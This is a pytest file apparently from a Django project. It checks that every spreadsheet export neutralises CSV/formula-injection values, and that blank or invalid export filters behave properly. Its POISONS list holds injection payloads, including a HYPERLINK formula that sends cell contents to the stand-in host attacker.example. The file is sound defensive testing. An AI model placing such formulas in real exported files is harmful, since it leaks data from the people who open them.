"""Every spreadsheet vocnet sends, walked: no cell can start a formula, and no filter state
breaks a download (issue 16 §1).

The exports are discovered, not listed: every API operation whose path ends in ``.xlsx`` (from
the OpenAPI document) and every page named ``…export…`` (from the URL conf). Each must have a
row in its app's ``permission_rows`` / ``page_rows`` (the matrices require that anyway), which
says how to call it; this test calls it as an allowed persona after poisoning every name and
free text in the database with formula triggers (OWASP "CSV Injection"), reads the file back
with openpyxl, and looks at every cell of every sheet. A new export is covered the day it gets
its matrix row, and fails here if it bypasses ``vocnet.spreadsheets.cells``.
"""

from __future__ import annotations

import io
import re
from typing import Any

import pytest
from django.apps import apps
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from vocnet.api.api import api
from vocnet.spreadsheets.cells import FORMULA_TRIGGERS, neutralise
from vocnet.spreadsheets.exporting import XLSX_CONTENT_TYPE
from vocnet.testing import World
from vocnet.testing.matrix import Row, client_for, collect, send
from vocnet.testing.pages import PageRow, collect_pages, page_patterns

POISONS = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"열기 {n}")',
    "+1+{n}",
    "-2-{n}",
    "@SUM(1+{n})",
    "\tx{n}",
    "\rx{n}",
)
# The free-text columns a person types (names, titles, notes): poisoned on every row.
POISONED_FIELDS = {
    "name",
    "name_ko",
    "name_en",
    "short_name_ko",
    "title",
    "title_ko",
    "title_en",
    "description",
    "occupation",
    "tasks",
    "site_address",
    "mentor_name",
    "note",
    "notes",
}
# The page exports that answer with the file only to a POST, and its form.
PAGE_EXPORT_POSTS: dict[str, dict[str, str]] = {
    "clearinghouse:results_export": {"reason": "현장실습 배정 결과 점검"},
}
PREFERRED_PERSONAS = ("province_officer", "support_office_officer", "school_staff_a")


def _api_exports() -> set[tuple[str, str]]:
    schema = api.get_openapi_schema()
    return {
        (method.upper(), path)
        for path, operations in schema["paths"].items()
        if path.endswith(".xlsx")
        for method in operations
    }


def _query_parameters(method: str, route: str) -> list[str]:
    operation = api.get_openapi_schema()["paths"][route][method.lower()]
    return [p["name"] for p in operation.get("parameters", []) if p["in"] == "query"]


API_ROWS: list[Row] = [
    row
    for app in collect()
    for row in app.rows
    if row.route.endswith(".xlsx") and row.upload is None
]
PAGE_ROWS: list[PageRow] = [
    row for app in collect_pages() for row in app.rows if "export" in row.name.split(":")[-1]
]


def _one_per_export(rows: list[Any], key: Any) -> list[Any]:
    seen: dict[Any, Any] = {}
    for row in rows:
        seen.setdefault(key(row), row)
    return list(seen.values())


def _persona(allowed: frozenset[str]) -> str:
    return next((p for p in PREFERRED_PERSONAS if p in allowed), sorted(allowed)[0])


def _fit(value: str, field: Any, pk: Any) -> str:
    limit = field.max_length
    if not limit or len(value) <= limit:
        return value
    tag = f"#{pk}"
    return value[: limit - len(tag)] + tag


def _poison_database() -> int:
    """Every poisoned field of every vocnet row gets a formula trigger; returns how many."""
    count = 0
    for model in apps.get_models():
        if not model.__module__.startswith("vocnet."):
            continue
        fields = [
            field
            for field in model._meta.get_fields()
            if isinstance(field, (models.CharField, models.TextField))
            and field.name in POISONED_FIELDS
            and not field.choices
        ]
        if not fields:
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            # Cut to the column's length (PostgreSQL enforces it; the trigger comes first), the
            # row's key kept at the end so unique names stay unique.
            values = {
                field.name: _fit(POISONS[(count + index) % len(POISONS)].format(n=pk), field, pk)
                for index, field in enumerate(fields)
            }
            model._default_manager.filter(pk=pk).update(**values)
            count += 1
    return count


def _cells(content: bytes) -> list[tuple[str, Any, str]]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _assert_no_formula(content: bytes, where: str) -> list[Any]:
    cells = _cells(content)
    live = [
        (sheet, value)
        for sheet, value, kind in cells
        if kind == "f" or (isinstance(value, str) and value.startswith(FORMULA_TRIGGERS))
    ]
    assert not live, f"{where}: cells that a spreadsheet would run: {live[:5]}"
    return [value for _, value, _ in cells]


ORIGIN_MARKERS = ("합성", "자료 구분", "자료 출처", "data origin", "data_origin", "synthetic")


def _assert_says_where_rows_come_from(content: bytes, where: str) -> None:
    """Issue 16 §8: an export says which rows are synthetic — a column (or the title, for a
    table of figures) names the data's origin."""
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    top = [str(c.value) for row in sheet.iter_rows(max_row=2) for c in row if c.value]
    assert any(marker in cell for cell in top for marker in ORIGIN_MARKERS), (where, top)


def _is_xlsx(response: Any, where: str) -> None:
    assert response.status_code == 200, (where, response.status_code, response.content[:300])
    assert response["Content-Type"] == XLSX_CONTENT_TYPE, where


def test_every_export_has_a_row_to_walk() -> None:
    # Given every .xlsx operation of the API and every export page of the URL conf
    api_exports = _api_exports()
    page_exports = {name for name in page_patterns() if "export" in name.split(":")[-1]}

    # Then each has a matrix row this walk calls (a new export without one fails here)
    walked_api = {(row.method, row.route) for row in API_ROWS}
    walked_pages = {row.name for row in PAGE_ROWS}
    assert api_exports - {(m, r) for m, r in api_exports if "/imports/" in r} <= walked_api
    assert page_exports <= walked_pages
    assert api_exports, "no export found: the discovery is broken"


def test_neutralise_keeps_numbers_and_quotes_formula_text() -> None:
    assert [neutralise(v) for v in ("=1+1", "+1", "-2", "@x", "\tx", "\rx")] == [
        "'=1+1",
        "'+1",
        "'-2",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert neutralise(-2) == -2
    assert neutralise(3.5) == 3.5
    assert neutralise("경기 1") == "경기 1"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "row", _one_per_export(API_ROWS, lambda r: (r.method, r.route)), ids=lambda r: r.id
)
def test_api_export_with_poisoned_rows_carries_no_formula(world: World, row: Row) -> None:
    # Given names and free texts that begin with formula triggers
    if row.prepare is not None:
        row.prepare(world)
    assert _poison_database() > 0
    client = client_for(world, _persona(row.allowed))

    # When an allowed persona downloads the export
    response = send(client, row, world)

    # Then the file opens, and no cell is a formula or starts with a trigger
    _is_xlsx(response, row.id)
    values = _assert_no_formula(response.content, row.id)
    if "/templates/" not in row.route:
        _assert_says_where_rows_come_from(response.content, row.id)
        assert any(isinstance(v, str) and v.startswith("'") for v in values), (
            f"{row.id}: no poisoned text reached the file, so the walk proved nothing"
        )


@pytest.mark.django_db
@pytest.mark.parametrize("row", _one_per_export(PAGE_ROWS, lambda r: r.name), ids=lambda r: r.id)
def test_page_export_with_poisoned_rows_carries_no_formula(world: World, row: PageRow) -> None:
    # Given poisoned names and free texts
    if row.prepare is not None:
        row.prepare(world)
    assert _poison_database() > 0
    client = client_for(world, _persona(row.allowed))

    # When an allowed persona downloads the page's export
    form = PAGE_EXPORT_POSTS.get(row.name)
    path = row.path(world)
    response = client.post(path, form) if form is not None else client.get(path)

    # Then no cell of the file can run
    _is_xlsx(response, row.id)
    values = _assert_no_formula(response.content, row.id)
    _assert_says_where_rows_come_from(response.content, row.id)
    assert any(isinstance(v, str) and v.startswith("'") for v in values), row.id


def _with_blank_filters(row: Row, world: World) -> str:
    names = _query_parameters(row.method, row.route)
    return row.path(world) + "?" + "&".join(f"{name}=" for name in names)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "row",
    [r for r in _one_per_export(API_ROWS, lambda r: (r.method, r.route)) if r.method == "GET"],
    ids=lambda r: r.id,
)
def test_api_export_with_every_filter_blank_is_the_whole_list(world: World, row: Row) -> None:
    # Given the query a filter form sends when every filter is left on "전체" (region=&…)
    if row.prepare is not None:
        row.prepare(world)
    client = client_for(world, _persona(row.allowed))
    path = _with_blank_filters(row, world)

    # When the export is opened with it
    response = client.get(path)

    # Then the file comes, the same as with no filter at all
    _is_xlsx(response, path)
    unfiltered = client.get(row.path(world))
    assert len(_cells(response.content)) == len(_cells(unfiltered.content))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/api/exports/organisations.xlsx?support_office=abc&region=",
        "/api/agreements/exports/commitments.xlsx?region=xyz",
        "/api/placements/exports/offers.xlsx?region=12",
        "/api/demand/exports/gap.xlsx?region=x",
    ],
)
def test_invalid_filter_in_the_browser_is_a_page_not_json(world: World, path: str) -> None:
    # Given a signed-in officer's browser
    client: Client = client_for(world, "province_officer")

    # When it follows an export link with a value no filter takes
    response = client.get(
        path,
        headers={"Sec-Fetch-Mode": "navigate", "Accept": "text/html", "Referer": "/"},
    )

    # Then it gets the service's own error page: the field's label and the rule, no JSON,
    # no code name
    assert response.status_code == 422
    assert response["Content-Type"].startswith("text/html")
    text = response.content.decode()
    assert 'id="request-error"' in text
    assert '"message_ko"' not in text
    assert re.search(r"<strong>(시·군|교육지원청)</strong>", text), text[-1500:]
    assert "support_office" not in text.split('id="request-error"')[1].split("</div>")[0]


@pytest.mark.django_db
def test_invalid_filter_from_a_script_is_still_json(world: World) -> None:
    client = client_for(world, "province_officer")
    response = client.get("/api/exports/organisations.xlsx?support_office=abc")
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "support_office"
